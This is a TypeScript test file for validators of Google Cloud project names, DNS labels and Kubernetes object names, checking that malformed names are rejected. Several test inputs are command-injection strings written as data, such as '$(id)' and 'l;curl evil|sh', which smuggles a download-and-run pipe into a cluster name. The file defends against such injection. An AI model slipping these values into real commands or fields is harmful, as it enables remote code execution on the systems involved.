import assert from 'node:assert/strict';
import fc from 'fast-check';
import {
  isDnsLabel,
  isObjectName,
  isProjectName,
  misnamedPart,
} from '../../../functions/core/detection/names.ts';

describe('the rules for names', () => {
  it('know what Google and Kubernetes give', () => {
    for (const one of ['shop-prod', '731920055417', 'example.com:shop-prod', 'a23456']) {
      assert.ok(isProjectName(one), one);
    }
    for (const one of ['prod-eu-1', 'europe-west1-b', 'global', 'a', '1', 'x'.repeat(63)]) {
      assert.ok(isDnsLabel(one), one);
    }
    for (const one of ['web-0', 'istiod.asm-managed', 'x'.repeat(253)])
      assert.ok(isObjectName(one));
  });

  it('know what nobody can have given', () => {
    const never = ['', '-a', 'a-', 'A', 'a b', 'a;b', '$(id)', 'a\n', 'a/b', '`a`', "a'b", 'ä'];
    for (const one of never) {
      assert.ok(!isDnsLabel(one) && !isObjectName(one) && !isProjectName(one), JSON.stringify(one));
    }
    for (const one of ['a..b', 'a.-b', 'a-.b', '.a', 'a.']) assert.ok(!isObjectName(one), one);
    assert.ok(!isDnsLabel('x'.repeat(64)) && !isObjectName('x'.repeat(254)));
    assert.ok(!isProjectName('0') && !isProjectName('1'.repeat(21)) && !isProjectName('short'));
  });

  it('let nothing through that a shell reads, whatever it is', () => {
    fc.assert(
      fc.property(fc.string({unit: 'binary', maxLength: 80}), text => {
        if (isDnsLabel(text) || isObjectName(text) || isProjectName(text)) {
          assert.match(text, /^[a-z0-9.:-]+$/);
        }
      }),
    );
  });

  it('name the part of a target that breaks them', () => {
    const place = {project: 'shop-prod', location: 'europe-west1', cluster: 'prod-eu-1'};
    assert.equal(misnamedPart(place), undefined);
    assert.equal(misnamedPart({...place, project: 'x'.repeat(2_000)}), 'project');
    assert.equal(misnamedPart({...place, cluster: 'l;curl evil|sh'}), 'cluster');
    assert.equal(misnamedPart({...place, namespace: 'a|b'}), 'namespace');
  });
});
